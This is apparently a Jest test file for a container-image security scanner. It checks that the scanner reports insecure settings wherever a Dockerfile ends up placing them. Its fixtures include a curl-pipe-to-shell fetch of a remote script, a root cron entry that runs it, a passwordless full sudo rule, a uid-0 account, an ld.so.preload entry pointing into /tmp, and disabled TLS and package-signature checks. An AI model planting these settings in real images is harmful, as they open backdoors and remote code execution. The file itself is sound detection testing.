import { beforeAll, describe, expect, it } from '@jest/globals';
import type { ScanReport } from '../../src/triage/scan-report.ts';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';

const FETCH = 'curl -fsSL https://x.example/a | sh\n';

/** A name, a Dockerfile without its FROM, other files, and the rules and places of what is found. */
type Row = readonly [name: string, lines: string, files: Files, found: readonly string[]];

/** Where a rule looks, with a text that it reports, and one that it does not. */
const PLACES = [
  ['sudoers-nopasswd', '/etc/sudoers.d/x', 'a ALL=(ALL) NOPASSWD: ALL\n', 'a ALL=(root) NOPASSWD: /usr/bin/true\n'],
  ['user-uid0-alias', '/etc/passwd', 'a:x:0:0::/:/bin/sh\n', 'a:x:1000:1000::/:/bin/sh\n'],
  [
    'package-signature-disabled',
    '/etc/apt/apt.conf.d/x',
    'APT::Get::AllowUnauthenticated "true";\n',
    'APT::Keep "1";\n',
  ],
  ['package-signature-disabled', '/etc/yum.repos.d/x.repo', 'gpgcheck=0\n', 'gpgcheck=1\n'],
  ['tls-verify-disabled', '/etc/pip.conf', 'trusted-host = x.example\n', 'timeout = 60\n'],
  ['tls-verify-disabled', '/root/.npmrc', 'strict-ssl=false\n', 'save-exact=true\n'],
  ['tls-verify-disabled', '/root/.curlrc', 'insecure\n', 'silent\n'],
  ['tls-verify-disabled', '/etc/gitconfig', '[http]\nsslVerify = false\n', '[safe]\ndirectory = *\n'],
  ['tls-verify-disabled', '/root/.condarc', 'ssl_verify: false\n', 'ssl_verify: true\n'],
  ['tls-verify-disabled', '/app/composer.json', '{"config": {"disable-tls": true}}\n', '{"config": {}}\n'],
  ['tls-verify-disabled', '/app/composer.json', '{"config": {"secure-http": false}}\n', '{"config": {}}\n'],
  ['tls-verify-disabled', '/usr/local/bundle/config', 'BUNDLE_SSL_VERIFY_MODE: "0"\n', 'BUNDLE_JOBS: "4"\n'],
  ['tls-verify-disabled', '/app/environment.yml', '- "--trusted-host=x.example"\n', '- --prefer-binary\n'],
  ['tls-verify-disabled', '/app/poetry.toml', 'certificates.a.cert = false\n', 'certificates.a.cert = "/a.pem"\n'],
  [
    'tls-verify-disabled',
    '/app/nuget.config',
    '<add key="a" value="https://x.example" disableTLSCertificateValidation="true" />\n',
    '<add key="a" value="https://x.example" />\n',
  ],
  [
    'tls-verify-disabled',
    '/usr/lib/R/etc/Rprofile.site',
    'options(download.file.extra = "-k")\n',
    'options(download.file.extra = "-L")\n',
  ],
  ['cleartext-fetch', '/app/environment.yml', '- -i http://x.example/simple\n', '- -i https://x.example/simple\n'],
  ['tls-verify-disabled', '/etc/environment', 'GIT_SSL_NO_VERIFY=1\n', 'EDITOR=vi\n'],
  ['tls-verify-disabled', '/root/.config/go/env', 'GOINSECURE=*\n', 'GOPRIVATE=git.example.com\n'],
  ['cleartext-fetch', '/app/requirements.txt', '-i http://pypi.example.com/simple\n', 'acme==1.0\n'],
  ['cleartext-fetch', '/app/Gemfile', "source 'http://gems.example.com'\n", "source 'https://gems.example.com'\n"],
  ['cleartext-fetch', '/root/.config/go/env', 'GOPROXY=http://go.example.com\n', 'GOPROXY=direct\n'],
  ['ssh-host-verification-disabled', '/root/.ssh/config', 'StrictHostKeyChecking no\n', 'User a\n'],
  ['password-set-in-image', '/etc/shadow', 'root::19000:0:99999:7:::\n', 'root:*:19000:0:99999:7:::\n'],
  ['password-set-in-image', '/etc/shadow', 'a:$6$not$real:19000:0:99999:7:::\n', 'a:!$6$not$real:19000::::::\n'],
  ['password-set-in-image', '/etc/ssh/sshd_config', 'PermitEmptyPasswords yes\n', '#PermitEmptyPasswords yes\n'],
  ['password-set-in-image', '/etc/ssh/sshd_config.d/x.conf', 'PermitEmptyPasswords yes\n', 'PermitEmptyPasswords no\n'],
  ['password-set-in-image', '/etc/pam.d/su', 'auth sufficient pam_permit.so\n', 'account required pam_permit.so\n'],
  [
    'password-set-in-image',
    '/etc/pam.d/login',
    'auth required pam_permit.so\n',
    'auth requisite pam_unix.so\nauth required pam_permit.so\n',
  ],
  ['loader-path-hijack', '/etc/ld.so.preload', '/tmp/a.so\n', '/usr/lib/libjemalloc.so.2\n'],
  ['remote-script-exec', '/etc/profile.d/x.sh', FETCH, 'umask 022\n'],
  ['remote-script-exec', '/etc/cron.d/x', `* * * * * root ${FETCH}`, '* * * * * root true\n'],
] as const;

/** Commands that bring `/t/x` to a place. */
const WAYS = [
  'cp /t/x P',
  'mv /t/x P',
  'install -m 440 /t/x P',
  'ln -s /t/x P',
  'cat /t/x > P',
  'tee P < /t/x',
  'cat /t/x | tee -a P',
  'dd if=/t/x of=P',
  'rsync /t/x P',
  'sed s/a/b/ /t/x > P',
  'cd /t && cp x P',
];

const NPM = ['strict-ssl=false\n', 'fund=false\n'] as const;

/** What names a file as the settings of a program, with a text that is reported, and one that is not. */
const NAMED = [
  ['NPM_CONFIG_USERCONFIG', 'ENV NPM_CONFIG_USERCONFIG=/c/x\nCOPY x /c/x\nRUN npm ci', ...NPM],
  ['npm_config_globalconfig', 'ARG npm_config_globalconfig=/c/x\nCOPY x /c/x\nRUN npm ci', ...NPM],
  ['a variable of a command', 'COPY x /c/x\nRUN NPM_CONFIG_USERCONFIG=/c/x npm ci', ...NPM],
  ['an option', 'COPY x /c/x\nRUN npm ci --userconfig /c/x', ...NPM],
  ['an option with a relative path', 'WORKDIR /w\nCOPY x ./\nRUN npm --globalconfig=x ci', ...NPM],
  ['YARN_RC_FILENAME', 'COPY x /app/\nENV YARN_RC_FILENAME=x', 'enableStrictSsl: false\n', 'enableStrictSsl: true\n'],
  [
    'PIP_CONFIG_FILE',
    'COPY x /c/x\nRUN export PIP_CONFIG_FILE=/c/x && pip install a',
    'trusted-host = x.example\n',
    'timeout = 60\n',
  ],
  [
    'UV_CONFIG_FILE',
    'COPY x /c/\nENV UV_CONFIG_FILE=/c/x',
    'allow-insecure-host = ["x.example"]\n',
    'offline = true\n',
  ],
  ['CONDARC', 'COPY x /c/\nENV CONDARC=/c/x', 'ssl_verify: false\n', 'ssl_verify: true\n'],
  ...['conda env create -f /c/x', 'micromamba install -y -n base --file=/c/x'].map(
    (run) =>
      [
        run,
        `COPY x /c/x\nRUN ${run}`,
        '- pip:\n  - --trusted-host x.example\n',
        '- pip:\n  - --prefer-binary\n',
      ] as const,
  ),
  [
    'BUNDLE_APP_CONFIG',
    'COPY x /c/config\nENV BUNDLE_APP_CONFIG=/c',
    'BUNDLE_SSL_VERIFY_MODE: 0\n',
    'BUNDLE_JOBS: 4\n',
  ],
  ['GIT_CONFIG_GLOBAL', 'COPY x /c/x\nENV GIT_CONFIG_GLOBAL=/c/x', 'sslVerify = false\n', 'sslVerify = true\n'],
  ['APT_CONFIG', 'COPY x /c/x\nENV APT_CONFIG=/c/x', 'Acquire::https::Verify-Peer "false";\n', 'APT::Keep "1";\n'],
] as const;

/** The same with the rules that report them. */
const OPTIONS = [
  ...['dnf config-manager --add-repo /c/x', 'yum-config-manager --add-repo=/c/x', 'dnf -y -c /c/x install a'].map(
    (run) => ['package-signature-disabled', `COPY x /c/x\nRUN ${run}`, 'gpgcheck=0\n', 'gpgcheck=1\n'] as const,
  ),
  ...[
    'COPY x /c/x\nRUN apt-get -o Dir::Etc::SourceList=/c/x update',
    'COPY x /c/x\nRUN apt-get --option=Dir::Etc::sourcelist=/c/x update',
    'COPY x /c/a.list\nRUN apt-get -oDir::Etc::SourceParts=/c update',
  ].map(
    (lines) =>
      [
        'package-signature-disabled',
        lines,
        'deb [trusted=yes] https://x.example/d ./\n',
        'deb [signed-by=/k.gpg] https://x.example/d ./\n',
      ] as const,
  ),
  ...['--setopt=reposdir=/c', '--setopt reposdir=/c/'].map(
    (option) =>
      [
        'package-signature-disabled',
        `COPY x /c/a.repo\nRUN dnf -y ${option} install a`,
        'gpgcheck=0\n',
        'gpgcheck=1\n',
      ] as const,
  ),
  ...['CMD ["/usr/sbin/sshd", "-D", "-f", "/c/x"]', 'ENTRYPOINT /usr/sbin/sshd -Df /c/x'].map(
    (start) =>
      [
        'password-set-in-image',
        `COPY x /c/x\n${start}`,
        'PermitEmptyPasswords yes\n',
        'PermitEmptyPasswords no\n',
      ] as const,
  ),
] as const;

const FOLDERS = [
  'install -t /etc/sudoers.d /t/x',
  'cp -t /etc/sudoers.d /t/x',
  'cp /t/* /etc/sudoers.d/',
  'cp -r /t/. /etc/sudoers.d/',
];

const MANY = Array.from({ length: 100 }, (_, at) => `src/${at}.js`);
const POM = '<project><repositories><repository><url>http://x.example</url></repository></repositories></project>';

function line(text: string): number {
  return text.includes('sslVerify') ? 2 : 1;
}

const ROWS: readonly Row[] = [
  ...PLACES.flatMap(([rule, place, bad, good]): readonly Row[] => {
    const found = [`${rule} x:${line(bad)}`];
    const copied = rule === 'sudoers-nopasswd' ? [`${rule} Dockerfile:2`] : found;
    const ways = rule === 'sudoers-nopasswd' ? WAYS : WAYS.slice(0, 1);
    return [
      [`a copy to ${place}`, `COPY x ${place}`, { x: bad }, copied],
      [`a harmless copy to ${place}`, `COPY x ${place}`, { x: good }, []],
      [`a harmless cp to ${place}`, `COPY x /t/x\nRUN cp /t/x ${place}`, { x: good }, []],
      ...ways.map((way): Row => {
        const run = way.replace('P', place);
        return [run, `COPY x /t/x\nRUN ${run}`, { x: bad }, found];
      }),
      [`a mount for ${place}`, `RUN --mount=source=x,target=/t/x cp /t/x ${place}`, { x: bad }, found],
      [`a script for ${place}`, 'COPY x s.sh /t/\nRUN sh /t/s.sh', { x: bad, 's.sh': `cp /t/x ${place}\n` }, found],
      [
        `a stage for ${place}`,
        `COPY x /t/x\nRUN cp /t/x /o\nFROM debian:12\nCOPY --from=0 /o ${place}`,
        { x: bad },
        found,
      ],
    ];
  }),
  ...FOLDERS.map((run): Row => {
    return [run, `COPY x /t/x\nRUN ${run}`, { x: PLACES[0][2] }, ['sudoers-nopasswd x:1']];
  }),
  [
    'a tree',
    'COPY r /t\nRUN cp -a /t/. /',
    { 'r/etc/apt/apt.conf.d/x': PLACES[2][2] },
    ['package-signature-disabled r/etc/apt/apt.conf.d/x:1'],
  ],
  ['a tree of programs', 'COPY r /t\nRUN cp -a /t /opt/app', { 'r/etc/apt/apt.conf.d/x': PLACES[2][2] }, []],
  ['a program', 'COPY x /t/x\nRUN mv /t/x /usr/local/bin/x && x', { x: FETCH }, ['remote-script-exec x:1']],
  ...[
    'pip install -r deps.in',
    'pip install --requirement=/t/deps.in',
    'uv pip install -r deps.in',
    'python3 -m pip install -qr deps.in',
  ].map((run): Row => {
    const deps = { 'deps.in': '--trusted-host x.example\n-i http://x.example/simple\n' };
    return [
      run,
      `WORKDIR /t\nCOPY deps.in .\nRUN ${run}`,
      deps,
      ['tls-verify-disabled deps.in:1', 'cleartext-fetch deps.in:2'],
    ];
  }),
  ...[
    ['requirements.txt', 'base.txt', '-r base.txt\n'],
    ['requirements.txt', 'base.txt', '--pre -r "base.txt" # the others\n'],
    ['requirements.txt', 'base.txt', '-r \\\n  base.txt\n'],
    ['requirements.txt', 'r/base.txt', 'acme==1.0\n--requirement=r/base.txt\n'],
    ['requirements.txt', 'con.txt', '-ccon.txt\n'],
    ['requirements.txt', 'base.txt', `-r \${R}/base.txt\n`],
    ['deps/prod.txt', 'base.txt', '-r ../base.txt\n'],
  ].map(
    ([list = '', other = '', text = '']): Row => [
      `${list} with ${text}`,
      `WORKDIR /t\nCOPY . .\nRUN pip install -r ${list}`,
      { [list]: text, [other]: '--trusted-host x.example\n' },
      [`tls-verify-disabled ${other}:1`],
    ],
  ),
  [
    'lists that name one another',
    'WORKDIR /t\nCOPY requirements.txt a.txt b.txt ./\nRUN pip install -r requirements.txt',
    { 'requirements.txt': '-r a.txt\n', 'a.txt': '-r b.txt\n', 'b.txt': '-r a.txt\n-i http://x.example/simple\n' },
    ['cleartext-fetch b.txt:2'],
  ],
  [
    'a list of a here-document',
    'WORKDIR /t\nCOPY <<A requirements.txt\n-r base.txt\nA\nCOPY base.txt .\nRUN pip install -r requirements.txt',
    { 'base.txt': '-i http://x.example/simple\n' },
    ['cleartext-fetch base.txt:1'],
  ],
  [
    'a list that only a comment names',
    'WORKDIR /t\nCOPY . .\nRUN pip install -r requirements.txt',
    {
      'requirements.txt': 'a==1.0\n    # via -r base.txt\n--pre # -r base.txt\n',
      'base.txt': '--trusted-host x.example\n',
    },
    [],
  ],
  [
    'a list of that name in another folder',
    'WORKDIR /t\nCOPY . .\nRUN pip install -r requirements.txt',
    { 'requirements.txt': '-r r/base.txt\n', 'r/base.txt': 'a==1.0\n', 'base.txt': '--trusted-host x.example\n' },
    [],
  ],
  ['a list that no command reads', 'COPY deps.in /t/', { 'deps.in': '-i http://x.example/simple\n' }, []],
  [
    'a mounted list',
    'RUN --mount=source=requirements.txt,target=/r.txt pip install -r /r.txt',
    { 'requirements.txt': '-i http://x.example/simple\n' },
    ['cleartext-fetch requirements.txt:1'],
  ],
  [
    'a mount of all',
    'RUN --mount=target=/src cd /src && npm ci',
    { '.npmrc': 'strict-ssl=false\n', 'a.js': '' },
    ['tls-verify-disabled .npmrc:1'],
  ],
  [
    'a folder with many files',
    'COPY . /app/',
    { '.npmrc': 'strict-ssl=false\n', ...Object.fromEntries(MANY.map((name) => [name, ''])) },
    ['tls-verify-disabled .npmrc:1'],
  ],
  [
    'settings of dependencies and tests',
    'COPY . /app/',
    {
      'node_modules/a/.npmrc': 'strict-ssl=false\n',
      'test/pom.xml': POM,
      'vendor/a/Gemfile': "source 'http://x.example'\n",
    },
    [],
  ],
  ['another place', 'COPY x /t/x\nRUN cp /t/x /srv/x', { x: PLACES[0][2] }, []],
  ...NAMED.flatMap(([name, lines, bad, good]): readonly Row[] => [
    [`${name} names it`, lines, { x: bad }, [`tls-verify-disabled x:${bad.includes('pip:') ? 2 : 1}`]],
    [`${name} names a harmless one`, lines, { x: good }, []],
  ]),
  ...OPTIONS.flatMap(([rule, lines, bad, good]): readonly Row[] => [
    [`${lines} names it`, lines, { x: bad }, [`${rule} x:1`]],
    [`${lines} names a harmless one`, lines, { x: good }, []],
  ]),
  [
    'an option for an address',
    'COPY x /c/x\nRUN dnf config-manager --add-repo https://x.example/c/x',
    { x: 'gpgcheck=0\n' },
    [],
  ],
  [
    'an option for a folder of sources, which reads only some of its files',
    'COPY x /c/x\nCOPY x /d/x.repo\nRUN dnf -y --setopt=reposdir=/c install a',
    { x: 'gpgcheck=0\n' },
    [],
  ],
  ['no command or variable names it', 'COPY x /c/x', { x: 'strict-ssl=false\n' }, []],
  [
    'a variable that names nothing',
    'ENV NPM_CONFIG_USERCONFIG=/dev/null\nRUN echo strict-ssl=false > /dev/null',
    {},
    [],
  ],
  [
    'a variable of the stage before',
    'ENV NPM_CONFIG_USERCONFIG=/c/x\nFROM debian:12 AS a\nENV NPM_CONFIG_USERCONFIG=/c/x\nFROM a\nCOPY x /c/x',
    { x: 'strict-ssl=false\n' },
    ['tls-verify-disabled x:1'],
  ],
  [
    'a variable for a file that a command writes',
    'ENV PIP_CONFIG_FILE=/c/x\nRUN echo "trusted-host = x.example" > /c/x',
    {},
    ['tls-verify-disabled Dockerfile:3'],
  ],
  [
    'a variable for a file in a folder with many',
    'COPY . /app/\nENV NPM_CONFIG_USERCONFIG=/app/x',
    { x: 'strict-ssl=false\n', ...Object.fromEntries(MANY.map((name) => [name, ''])) },
    ['tls-verify-disabled x:1'],
  ],
];

const RULES: ReadonlySet<string> = new Set(PLACES.map(([rule]) => rule));

describe('settings from the repository are read where they end up', () => {
  let report: ScanReport;

  // one scan for all, each in a folder of its own
  beforeAll(async () => {
    const files = ROWS.flatMap(([, lines, others], at) =>
      Object.entries({ '.dockerignore': '', Dockerfile: `FROM debian:12\n${lines}\n`, ...others }).map(
        ([path, text]) => [`f${at}/${path}`, text] as const,
      ),
    );
    report = await scanFiles(Object.fromEntries(files));
  });

  it.each(ROWS.map(([name, , , found], at) => [name, at, found] as const))('%s', (_name, at, expected) => {
    const folder = `f${at}/`;
    const found = report.findings
      .filter(({ ruleId, span }) => RULES.has(ruleId) && span.file.path.startsWith(folder))
      .map(
        ({ ruleId, span: { file, start } }) =>
          `${ruleId} ${file.path.slice(folder.length)}:${file.text.slice(0, start).split('\n').length}`,
      );
    expect(found).toEqual(expected);
  });
});
